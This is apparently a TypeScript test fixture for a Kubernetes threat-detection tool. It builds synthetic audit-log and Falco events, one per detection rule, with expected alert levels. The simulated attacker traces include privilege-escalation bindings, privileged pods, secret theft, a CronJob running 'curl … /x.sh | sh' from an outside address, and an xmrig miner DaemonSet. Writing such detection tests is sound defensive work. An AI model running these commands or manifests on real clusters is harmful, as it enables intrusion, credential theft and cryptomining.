/**
 * One realistic trace per catalogue rule (scenario a of the evaluation): the events an API server or Falco would
 * write when the thing the rule is about happens, with the level the rule must reach at least.
 */
import type { Level } from '../../../src/schema/alert.ts';
import { hubbleCases } from './attacks-hubble.ts';
import { wave3Cases } from './attacks-wave3.ts';
import {
  type Actor,
  audit,
  container,
  controller,
  falcoAlert,
  falcosidekick,
  forbidden,
  type Json,
  meta,
  min,
  node,
  podSpec,
  sec,
  serviceAccount,
  T0,
  unauthorized,
  user,
  uuid,
  workload,
} from './k8s.ts';

export interface RuleCase {
  rule: string;
  level: Level;
  title: string;
  events: Json[];
  /** Values of rule placeholders the trace needs (`klaxon replay --placeholder`). */
  placeholders?: Record<string, string[]>;
}

const mallory = user('mallory@example.com', '203.0.113.45');
const alice = user('alice@example.com', '198.51.100.23');
const stolen = serviceAccount('payments', 'payments-api', '203.0.113.99', 'curl/8.5.0');

const at = (m: number, s = 0) => T0 + min(m) + sec(s);

function execSession(actor: Actor, ns: string, pod: string, start: number, command = 'sh'): Json[] {
  const id = uuid(`exec:${ns}:${pod}:${start}`);
  const ref = { resource: 'pods', namespace: ns, name: pod, subresource: 'exec' };
  const query = `command=${command}&container=web&stdin=true&stdout=true&tty=true`;
  return [
    audit({ at: start, actor, verb: 'create', ref, query, code: 101, stage: 'ResponseStarted', auditID: id }),
    audit({
      at: start,
      latencyMs: sec(95),
      actor,
      verb: 'create',
      ref,
      query,
      code: 101,
      stage: 'ResponseComplete',
      auditID: id,
    }),
  ];
}

export function ruleCases(): RuleCase[] {
  const cases: RuleCase[] = [];
  // A log is written in event-time order (stageTimestamp for audit events, time for Falco alerts).
  const timeOf = (e: Json) => Date.parse(String(e.stageTimestamp ?? e.time));
  const add = (
    rule: string,
    level: Level,
    title: string,
    events: Json[],
    placeholders?: Record<string, string[]>,
  ) =>
    cases.push({
      rule,
      level,
      title,
      events: [...events].sort((a, b) => timeOf(a) - timeOf(b)),
      placeholders,
    });

  add('k8s-resource-activity', 'informational', 'a developer creates a Deployment', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'deployments', namespace: 'shop' },
      query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
      requestObject: workload(
        'Deployment',
        'cart',
        'shop',
        podSpec([container('cart', 'ghcr.io/acme/cart:2.4.1')]),
      ),
      responseObject: { kind: 'Deployment', metadata: { name: 'cart', namespace: 'shop' } },
    }),
  ]);

  add('k8s-anonymous-request-allowed', 'high', 'anonymous lists pods (anonymous bound to a role)', [
    audit({
      at: at(0),
      actor: 'anonymous',
      verb: 'list',
      ref: { resource: 'pods', namespace: 'default' },
      query: 'limit=500',
      annotations: {
        'authorization.k8s.io/decision': 'allow',
        'authorization.k8s.io/reason':
          'RBAC: allowed by ClusterRoleBinding "oops" of ClusterRole "view" to Group "system:unauthenticated"',
      },
    }),
  ]);

  add('k8s-forbidden-service-account', 'medium', 'a stolen SA token is refused listing secrets', [
    forbidden({
      at: at(0),
      actor: stolen,
      verb: 'list',
      ref: { resource: 'secrets', namespace: 'kube-system' },
      query: 'limit=500',
    }),
  ]);

  add(
    'k8s-auth-failure-burst',
    'high',
    '12 failed logins from one address in 2 minutes',
    Array.from({ length: 12 }, (_, i) =>
      unauthorized(
        at(0, i * 10),
        '203.0.113.7',
        'python-requests/2.31.0',
        '/api/v1/namespaces/default/secrets',
      ),
    ),
  );

  add(
    'k8s-permission-enumeration',
    'medium',
    'one SA denied on 5 resources',
    ['secrets', 'configmaps', 'pods', 'roles', 'nodes'].map((r, i) =>
      forbidden({
        at: at(0, i * 20),
        actor: stolen,
        verb: 'list',
        ref: r === 'nodes' ? { resource: r } : { resource: r, namespace: 'payments' },
      }),
    ),
  );

  add('k8s-cluster-admin-binding', 'high', 'kubectl create clusterrolebinding to cluster-admin', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io' },
      query: 'fieldManager=kubectl-create&fieldValidation=Strict',
      requestObject: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'backdoor', creationTimestamp: null },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
      },
      responseObject: { kind: 'ClusterRoleBinding', metadata: { name: 'backdoor', uid: uuid('crb') } },
    }),
  ]);

  const roleBody = (name: string, rules: Json[]) => ({
    kind: 'ClusterRole',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name },
    rules,
  });
  add('k8s-rbac-wildcard-role', 'high', 'a ClusterRole with * verbs on *', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterroles' },
      query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
      requestObject: roleBody('ops-all', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]),
    }),
  ]);
  add('k8s-rbac-escalation-verbs', 'high', 'a ClusterRole granting impersonate', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterroles' },
      query: 'fieldManager=kubectl-create',
      requestObject: roleBody('impersonator', [
        { apiGroups: [''], resources: ['users', 'groups', 'serviceaccounts'], verbs: ['impersonate'] },
      ]),
    }),
  ]);
  add('k8s-rbac-pod-exec-role', 'medium', 'a Role granting pods/exec', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'roles', namespace: 'shop' },
      query: 'fieldManager=kubectl-create',
      requestObject: {
        kind: 'Role',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'debugger', namespace: 'shop' },
        rules: [{ apiGroups: [''], resources: ['pods', 'pods/exec'], verbs: ['get', 'create'] }],
      },
    }),
  ]);
  add('k8s-rbac-write-role', 'low', 'a Role that can create deployments', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'roles', namespace: 'shop' },
      requestObject: {
        kind: 'Role',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'deployer', namespace: 'shop' },
        rules: [
          { apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'list', 'create', 'patch'] },
        ],
      },
    }),
  ]);
  add('k8s-system-role-modified', 'high', 'system:node ClusterRole patched by a person', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'patch',
      ref: { resource: 'clusterroles', name: 'system:node' },
      query: 'fieldManager=kubectl-patch',
      requestObject: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }] },
    }),
  ]);
  add('k8s-rbac-change', 'low', 'a RoleBinding deleted', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'delete',
      ref: { resource: 'rolebindings', namespace: 'shop', name: 'viewers' },
    }),
  ]);
  add('k8s-impersonation-privileged', 'high', 'kubectl --as=system:admin --as-group=system:masters', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'get',
      ref: { resource: 'secrets', namespace: 'kube-system', name: 'bootstrap-token-abcdef' },
      impersonatedUser: { username: 'system:admin', groups: ['system:masters', 'system:authenticated'] },
    }),
  ]);
  add('k8s-serviceaccount-token-request', 'medium', 'kubectl create token for a kube-system SA', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: {
        resource: 'serviceaccounts',
        namespace: 'kube-system',
        name: 'clusterrole-aggregation-controller',
        subresource: 'token',
      },
      requestObject: {
        kind: 'TokenRequest',
        apiVersion: 'authentication.k8s.io/v1',
        metadata: { creationTimestamp: null },
        spec: { audiences: null, expirationSeconds: 31536000, boundObjectRef: null },
      },
      responseObject: {
        kind: 'TokenRequest',
        apiVersion: 'authentication.k8s.io/v1',
        status: { token: '', expirationTimestamp: '2025-06-11T09:00:00Z' },
      },
    }),
  ]);
  add(
    'k8s-certificate-signing-request',
    'medium',
    'a CSR for system:masters created and approved by a person',
    [
      audit({
        at: at(0),
        actor: mallory,
        verb: 'create',
        ref: { resource: 'certificatesigningrequests' },
        requestObject: {
          kind: 'CertificateSigningRequest',
          apiVersion: 'certificates.k8s.io/v1',
          metadata: { name: 'mallory-admin' },
          spec: {
            request: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K',
            signerName: 'kubernetes.io/kube-apiserver-client',
            usages: ['client auth'],
            expirationSeconds: 86400,
          },
        },
      }),
      audit({
        at: at(0, 30),
        actor: mallory,
        verb: 'update',
        ref: { resource: 'certificatesigningrequests', name: 'mallory-admin', subresource: 'approval' },
        requestObject: {
          kind: 'CertificateSigningRequest',
          metadata: { name: 'mallory-admin' },
          status: {
            conditions: [
              {
                type: 'Approved',
                status: 'True',
                reason: 'KubectlApprove',
                message: 'This CSR was approved by kubectl certificate approve.',
              },
            ],
          },
        },
      }),
    ],
  );

  add('k8s-rbac-change-then-workload', 'high', 'a binding then a DaemonSet by the same person', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'rolebindings', namespace: 'kube-system' },
      requestObject: {
        kind: 'RoleBinding',
        metadata: { name: 'x', namespace: 'kube-system' },
        roleRef: { kind: 'ClusterRole', name: 'edit', apiGroup: 'rbac.authorization.k8s.io' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'kube-system' }],
      },
    }),
    audit({
      at: at(2),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'daemonsets', namespace: 'kube-system' },
      requestObject: workload(
        'DaemonSet',
        'node-agent',
        'kube-system',
        podSpec([container('agent', 'docker.io/library/alpine:3.19')]),
      ),
    }),
  ]);

  const privileged = { privileged: true };
  add('k8s-privileged-container', 'high', 'a privileged pod', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'default' },
      query: 'fieldManager=kubectl-run',
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('pwn', 'default'),
        spec: podSpec([
          container('pwn', 'docker.io/library/alpine:3.19', privileged, { command: ['sleep', 'infinity'] }),
        ]),
      },
    }),
  ]);
  add('k8s-host-namespace', 'high', 'a pod with hostPID and hostNetwork', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'default' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('nsenter', 'default'),
        spec: podSpec([container('nsenter', 'docker.io/library/alpine:3.19')], {
          hostPID: true,
          hostNetwork: true,
        }),
      },
    }),
  ]);
  add('k8s-sensitive-hostpath', 'high', 'a pod mounting the containerd socket', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'default' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('sock', 'default'),
        spec: podSpec(
          [
            container('sock', 'docker.io/library/alpine:3.19', undefined, {
              volumeMounts: [{ name: 'cri', mountPath: '/run/containerd/containerd.sock' }],
            }),
          ],
          {
            volumes: [
              { name: 'cri', hostPath: { path: '/var/run/containerd/containerd.sock', type: 'Socket' } },
            ],
          },
        ),
      },
    }),
  ]);
  add('k8s-dangerous-capabilities', 'medium', 'a pod adding SYS_ADMIN', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'default' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('caps', 'default'),
        spec: podSpec([
          container('caps', 'docker.io/library/alpine:3.19', {
            capabilities: { add: ['SYS_ADMIN'], drop: ['NET_RAW'] },
          }),
        ]),
      },
    }),
  ]);
  add('k8s-pod-in-system-namespace', 'medium', 'a pod in kube-system with an unknown image', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'kube-system' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('kube-proxy-x7k2p', 'kube-system'),
        spec: podSpec([container('kube-proxy', 'docker.io/mallory/kube-proxy:v1.30.1')]),
      },
    }),
  ]);
  add('k8s-pod-security-violation', 'medium', 'Pod Security audit annotation on a developer pod', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'shop' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('tool', 'shop'),
        spec: podSpec([container('tool', 'ghcr.io/acme/tool:1.0.0', { runAsUser: 0 })]),
      },
      annotations: {
        ...{
          'authorization.k8s.io/decision': 'allow',
          'authorization.k8s.io/reason':
            'RBAC: allowed by RoleBinding "dev/shop" of ClusterRole "edit" to Group "developers"',
        },
        'pod-security.kubernetes.io/audit-violations':
          'would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "tool" must set securityContext.allowPrivilegeEscalation=false), runAsNonRoot != true (pod or container "tool" must set securityContext.runAsNonRoot=true)',
        'pod-security.kubernetes.io/enforce-policy': 'baseline:latest',
      },
    }),
  ]);
  add('k8s-mutable-image-tag', 'low', 'a pod with nginx:latest', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'shop' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: meta('nginx', 'shop'),
        spec: podSpec([container('nginx', 'nginx:latest')]),
      },
    }),
  ]);
  add('k8s-ephemeral-container', 'medium', 'kubectl debug adds an ephemeral container', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'patch',
      ref: {
        resource: 'pods',
        namespace: 'shop',
        name: 'web-7d9f8c6b5-x2x4q',
        subresource: 'ephemeralcontainers',
      },
      requestObject: {
        spec: {
          ephemeralContainers: [
            {
              name: 'debugger-kx2vd',
              image: 'busybox:1.36',
              stdin: true,
              tty: true,
              targetContainerName: 'web',
              resources: {},
              terminationMessagePolicy: 'File',
              imagePullPolicy: 'IfNotPresent',
            },
          ],
        },
      },
    }),
  ]);
  add(
    'k8s-exec-into-pod',
    'medium',
    'kubectl exec -it',
    execSession(alice, 'shop', 'web-7d9f8c6b5-x2x4q', at(0)),
  );
  add('k8s-port-forward', 'low', 'kubectl port-forward to a database', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'data', name: 'postgres-0', subresource: 'portforward' },
      code: 101,
      stage: 'ResponseStarted',
      auditID: uuid('pf'),
    }),
    audit({
      at: at(5),
      actor: alice,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'data', name: 'postgres-0', subresource: 'portforward' },
      code: 101,
      stage: 'ResponseComplete',
      auditID: uuid('pf'),
    }),
  ]);
  add('k8s-exec-followed-by-shell', 'critical', 'exec then Falco shell in the same pod', [
    ...execSession(mallory, 'shop', 'web-7d9f8c6b5-x2x4q', at(0)),
    falcoAlert(at(0, 40), 'Terminal shell in container', 'Notice', 'shop', 'web-7d9f8c6b5-x2x4q'),
  ]);
  add('k8s-node-proxy-access', 'medium', 'curl through nodes/proxy to the kubelet', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'get',
      ref: { resource: 'nodes', name: 'ip-10-0-12-34.eu-west-1.compute.internal', subresource: 'proxy' },
      uri: '/api/v1/nodes/ip-10-0-12-34.eu-west-1.compute.internal/proxy/pods',
    }),
  ]);

  add('k8s-secret-read-by-unusual-agent', 'high', 'curl reads a secret', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'get',
      ref: { resource: 'secrets', namespace: 'payments', name: 'stripe-api' },
    }),
  ]);
  add('k8s-secret-list-cluster-wide', 'high', 'secrets listed across all namespaces by a person', [
    audit({ at: at(0), actor: mallory, verb: 'list', ref: { resource: 'secrets' }, query: 'limit=500' }),
  ]);
  add(
    'k8s-secret-enumeration',
    'high',
    '6 secrets read by name in 4 minutes',
    ['db', 'stripe', 'smtp', 'jwt', 'oauth', 'redis'].map((n, i) =>
      audit({
        at: at(0, i * 40),
        actor: stolen,
        verb: 'get',
        ref: { resource: 'secrets', namespace: 'payments', name: `${n}-credentials` },
      }),
    ),
  );
  add('k8s-secret-read', 'informational', 'a developer reads a secret', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'get',
      ref: { resource: 'secrets', namespace: 'shop', name: 'cart-db' },
    }),
  ]);
  add('k8s-configmap-credentials', 'medium', 'a ConfigMap with a password', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'configmaps', namespace: 'shop' },
      requestObject: {
        kind: 'ConfigMap',
        apiVersion: 'v1',
        metadata: meta('cart-config', 'shop'),
        data: {
          'application.properties':
            'spring.datasource.url=jdbc:postgresql://db:5432/cart\nspring.datasource.password=Sup3rS3cret!\n',
        },
      },
    }),
  ]);
  add('k8s-serviceaccount-in-system-namespace', 'medium', 'a SA created in kube-system by a person', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'serviceaccounts', namespace: 'kube-system' },
      requestObject: {
        kind: 'ServiceAccount',
        apiVersion: 'v1',
        metadata: { name: 'node-helper', namespace: 'kube-system' },
      },
    }),
  ]);

  add('k8s-admission-webhook-changed', 'high', 'a ValidatingWebhookConfiguration deleted by a person', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'delete',
      ref: {
        resource: 'validatingwebhookconfigurations',
        name: 'gatekeeper-validating-webhook-configuration',
      },
    }),
  ]);
  add('k8s-ingress-without-tls', 'low', 'an Ingress without tls', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'ingresses', namespace: 'shop' },
      requestObject: {
        kind: 'Ingress',
        apiVersion: 'networking.k8s.io/v1',
        metadata: meta('cart', 'shop'),
        spec: {
          ingressClassName: 'nginx',
          rules: [
            {
              host: 'cart.example.com',
              http: {
                paths: [
                  {
                    path: '/',
                    pathType: 'Prefix',
                    backend: { service: { name: 'cart', port: { number: 80 } } },
                  },
                ],
              },
            },
          ],
        },
      },
    }),
  ]);
  add('k8s-network-policy-deleted', 'medium', 'a NetworkPolicy deleted', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'delete',
      ref: { resource: 'networkpolicies', namespace: 'payments', name: 'default-deny' },
    }),
  ]);
  add('k8s-service-exposed', 'medium', 'a LoadBalancer service', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'services', namespace: 'data' },
      requestObject: {
        kind: 'Service',
        apiVersion: 'v1',
        metadata: meta('pg-public', 'data'),
        spec: {
          type: 'LoadBalancer',
          selector: { app: 'postgres' },
          ports: [{ port: 5432, targetPort: 5432, protocol: 'TCP' }],
        },
      },
    }),
  ]);
  add('k8s-events-deleted', 'low', 'events deleted by a person', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'deletecollection',
      ref: { resource: 'events', namespace: 'shop' },
    }),
  ]);
  add('k8s-image-pull-failure', 'low', 'the kubelet reports ErrImagePull', [
    audit({
      at: at(0),
      actor: node('ip-10-0-12-34.eu-west-1.compute.internal', '10.0.12.34'),
      verb: 'create',
      ref: { resource: 'events', namespace: 'shop' },
      level: 'Request',
      requestObject: {
        kind: 'Event',
        apiVersion: 'v1',
        metadata: { name: 'cart-5c9f-abcde.17d8e5f', namespace: 'shop' },
        involvedObject: {
          kind: 'Pod',
          namespace: 'shop',
          name: 'cart-5c9f-abcde',
          fieldPath: 'spec.containers{cart}',
        },
        reason: 'Failed',
        message:
          'Failed to pull image "ghcr.io/acme/cart:2.4.2": rpc error: code = NotFound desc = failed to pull and unpack image: not found',
        source: { component: 'kubelet', host: 'ip-10-0-12-34' },
        type: 'Warning',
        count: 1,
      },
    }),
  ]);
  add('k8s-namespace-deleted', 'low', 'a namespace deleted', [
    audit({ at: at(0), actor: mallory, verb: 'delete', ref: { resource: 'namespaces', name: 'payments' } }),
  ]);
  add('k8s-resource-quota-exceeded', 'low', 'a pod refused by quota', [
    audit({
      at: at(0),
      actor: controller('replicaset-controller'),
      verb: 'create',
      ref: { resource: 'pods', namespace: 'shop' },
      code: 403,
      reason: 'Forbidden',
      message:
        'pods "cart-5c9f-abcde" is forbidden: exceeded quota: compute, requested: limits.cpu=2, used: limits.cpu=8, limited: limits.cpu=8',
      annotations: {
        'authorization.k8s.io/decision': 'allow',
        'authorization.k8s.io/reason':
          'RBAC: allowed by ClusterRoleBinding "system:controller:replicaset-controller"',
      },
    }),
  ]);
  add('falco-runtime-alert', 'critical', 'Falco Critical alert via falcosidekick', [
    falcosidekick(
      at(0),
      'Drop and execute new binary in container',
      'Critical',
      'shop',
      'web-7d9f8c6b5-x2x4q',
    ),
  ]);
  cases.push(...wave3Cases());
  cases.push(...hubbleCases());

  // Detection wave 2 (issue 17).
  const refusedBy = (message: string, code = 403) => ({
    code,
    reason: code === 403 ? 'Forbidden' : code === 422 ? 'Invalid' : 'BadRequest',
    message,
    annotations: {
      'authorization.k8s.io/decision': 'allow',
      'authorization.k8s.io/reason':
        'RBAC: allowed by RoleBinding "dev/payments" of ClusterRole "edit" to Group "developers"',
      'pod-security.kubernetes.io/enforce-policy': 'baseline:latest',
    },
  });
  const privilegedPod = (name: string, ns: string) => ({
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: meta(name, ns),
    spec: podSpec([container(name, 'docker.io/library/alpine:3.19', { privileged: true })], {
      hostPID: true,
    }),
  });
  const blockedPod = (at: number, ns: string, name: string) =>
    audit({
      at,
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: ns, name },
      query: 'fieldManager=kubectl-run',
      requestObject: privilegedPod(name, ns),
      ...refusedBy(
        `pods "${name}" is forbidden: violates PodSecurity "baseline:latest": host namespaces (hostPID=true), privileged (container "${name}" must not set securityContext.privileged=true)`,
      ),
    });
  add('k8s-privileged-workload-blocked', 'low', 'Pod Security refuses a privileged hostPID pod', [
    blockedPod(at(0), 'payments', 'pwn'),
  ]);
  add('k8s-pod-security-denied', 'low', 'enforce mode refuses a pod', [blockedPod(at(0), 'shop', 'nsenter')]);
  const rbacRefused = (when: number, name: string) =>
    audit({
      at: when,
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterrolebindings', name },
      requestObject: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'User', name: 'mallory@example.com' }],
      },
      code: 403,
      reason: 'Forbidden',
      message: `clusterrolebindings.rbac.authorization.k8s.io "${name}" is forbidden: user "mallory@example.com" (groups=["developers" "system:authenticated"]) is attempting to grant RBAC permissions not currently held:\n{APIGroups:["*"], Resources:["*"], Verbs:["*"]}`,
    });
  add('k8s-rbac-grant-blocked', 'low', 'the escalation check refuses a cluster-admin binding', [
    rbacRefused(at(0), 'backdoor'),
  ]);
  add('k8s-blocked-attempts-repeated', 'medium', 'three refused attempts by one person in ten minutes', [
    blockedPod(at(0), 'payments', 'pwn'),
    blockedPod(at(4), 'shop', 'pwn2'),
    rbacRefused(at(9), 'backdoor'),
  ]);

  add('k8s-cronjob-created-or-modified', 'medium', 'a stolen token creates a CronJob', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'create',
      ref: { resource: 'cronjobs', namespace: 'default' },
      requestObject: workload(
        'CronJob',
        'logrotate',
        'default',
        podSpec([
          container('logrotate', 'docker.io/curlimages/curl:8.5.0', undefined, {
            command: ['sh', '-c', 'curl -s http://203.0.113.200/x.sh | sh'],
          }),
        ]),
      ),
    }),
  ]);
  add('k8s-daemonset-created', 'medium', 'a developer creates a DaemonSet', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'daemonsets', namespace: 'monitoring' },
      requestObject: workload(
        'DaemonSet',
        'node-cache',
        'monitoring',
        podSpec([container('cache', 'docker.io/xmrig/xmrig:6.21.0')], {
          tolerations: [{ operator: 'Exists' }],
        }),
      ),
    }),
  ]);
  add('k8s-mirror-pod-impersonation', 'high', 'a fake kube-apiserver mirror pod from a stolen token', [
    audit({
      at: at(0),
      actor: stolen,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'kube-system' },
      requestObject: {
        kind: 'Pod',
        apiVersion: 'v1',
        metadata: {
          name: 'kube-apiserver-ip-10-0-11-21.eu-west-1.compute.internal',
          namespace: 'kube-system',
          annotations: { 'kubernetes.io/config.mirror': '5b2d6c0c', 'kubernetes.io/config.source': 'file' },
        },
        spec: podSpec([container('kube-apiserver', 'docker.io/mallory/kube-apiserver:v1.30.1')], {
          nodeName: 'ip-10-0-11-21.eu-west-1.compute.internal',
        }),
      },
    }),
  ]);
  add(
    'k8s-exec-serviceaccount-token-read',
    'high',
    'kubectl exec cat of the service account token',
    execSession(
      mallory,
      'payments',
      'payments-api-7d9f8c6b5-x2x4q',
      at(0),
      'cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken',
    ),
  );
  add(
    'k8s-kubectl-cp-from-pod',
    'medium',
    'kubectl cp of a database dump',
    execSession(
      alice,
      'data',
      'postgres-0',
      at(0),
      'tar&command=cf&command=-&command=%2Fbackups%2Fnightly.sql',
    ),
  );
  add(
    'k8s-kubectl-cp-sensitive-files',
    'high',
    'kubectl cp of /root/.ssh',
    execSession(mallory, 'data', 'postgres-0', at(0), 'tar&command=cf&command=-&command=%2Froot%2F.ssh'),
  );

  add('k8s-rbac-node-proxy-role', 'high', 'a ClusterRole granting nodes/proxy', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterroles' },
      requestObject: roleBody('node-debugger', [
        { apiGroups: [''], resources: ['nodes', 'nodes/proxy'], verbs: ['get', 'create'] },
      ]),
    }),
  ]);
  add('k8s-privileged-role-binding', 'high', 'a ClusterRoleBinding to edit for the default service account', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'clusterrolebindings' },
      requestObject: {
        kind: 'ClusterRoleBinding',
        apiVersion: 'rbac.authorization.k8s.io/v1',
        metadata: { name: 'ci-edit' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
        subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'default' }],
      },
    }),
  ]);
  const tokenSecret = (who: Actor, ns: string, sa: string) =>
    audit({
      at: at(0),
      actor: who,
      verb: 'create',
      ref: { resource: 'secrets', namespace: ns },
      requestObject: {
        kind: 'Secret',
        apiVersion: 'v1',
        type: 'kubernetes.io/service-account-token',
        metadata: {
          name: `${sa}-token`,
          namespace: ns,
          annotations: { 'kubernetes.io/service-account.name': sa },
        },
      },
    });
  add('k8s-long-lived-token-secret', 'medium', 'a person creates a token Secret for a CI account', [
    tokenSecret(alice, 'ci', 'deployer'),
  ]);
  add('k8s-long-lived-token-secret-privileged', 'high', 'a token Secret for a kube-system controller', [
    tokenSecret(mallory, 'kube-system', 'clusterrole-aggregation-controller'),
  ]);

  const secretDenied = (when: number, name: string) =>
    forbidden({
      at: when,
      actor: stolen,
      verb: 'get',
      ref: { resource: 'secrets', namespace: 'payments', name },
    });
  add('k8s-secret-access-denied', 'low', 'a stolen token refused a secret', [
    secretDenied(at(0), 'stripe-api'),
  ]);
  add(
    'k8s-secret-access-denied-burst',
    'high',
    'a stolen token refused on six secrets',
    ['db', 'stripe', 'smtp', 'jwt', 'oauth', 'redis'].map((n, i) =>
      secretDenied(at(0, i * 30), `${n}-credentials`),
    ),
  );
  add('k8s-anonymous-request-denied', 'low', 'an internet scanner lists secrets anonymously', [
    audit({
      at: at(0),
      actor: 'anonymous',
      verb: 'list',
      ref: { resource: 'secrets' },
      code: 403,
      reason: 'Forbidden',
      message:
        'secrets is forbidden: User "system:anonymous" cannot list resource "secrets" in API group "" at the cluster scope',
      annotations: { 'authorization.k8s.io/decision': 'forbid', 'authorization.k8s.io/reason': '' },
    }),
  ]);
  const kubeletCreds = { ...node('ip-10-0-12-34.eu-west-1.compute.internal', '198.18.7.44') };
  add(
    'k8s-system-identity-untrusted-network',
    'high',
    "a node's client certificate used with kubectl from outside",
    [
      audit({
        at: at(0),
        actor: { ...kubeletCreds, userAgent: 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350' },
        verb: 'get',
        ref: { resource: 'secrets', namespace: 'payments', name: 'stripe-api' },
      }),
    ],
  );
  add('k8s-node-traffic-untrusted-network', 'low', 'a kubelet renews its lease from a public NAT address', [
    audit({
      at: at(0),
      actor: kubeletCreds,
      verb: 'update',
      ref: {
        resource: 'leases',
        namespace: 'kube-node-lease',
        name: 'ip-10-0-12-34.eu-west-1.compute.internal',
      },
    }),
  ]);
  add(
    'k8s-request-from-indicator-address',
    'high',
    'a stolen token used from a listed Tor exit node',
    [
      audit({
        at: at(0),
        actor: { ...stolen, sourceIPs: ['185.220.101.47'] },
        verb: 'list',
        ref: { resource: 'secrets', namespace: 'payments' },
      }),
    ],
    { indicator_ips: ['185.220.101.0/24'] },
  );

  const deploymentWith = (name: string, spec: Json) =>
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'deployments', namespace: 'shop' },
      requestObject: workload('Deployment', name, 'shop', spec),
    });
  add('k8s-container-runs-as-root', 'low', 'a Deployment running as uid 0', [
    deploymentWith('legacy', podSpec([container('legacy', 'ghcr.io/acme/legacy:4.1.0', { runAsUser: 0 })])),
  ]);
  add('k8s-container-without-resource-limits', 'low', 'a Deployment without limits', [
    deploymentWith('cart', podSpec([container('cart', 'ghcr.io/acme/cart:2.4.1')])),
  ]);
  add('k8s-credential-literal-in-env', 'low', 'a literal DB_PASSWORD', [
    deploymentWith(
      'billing',
      podSpec([
        container('billing', 'ghcr.io/acme/billing:5.0.1', undefined, {
          env: [{ name: 'DB_PASSWORD', value: 'Sup3rS3cret!' }],
        }),
      ]),
    ),
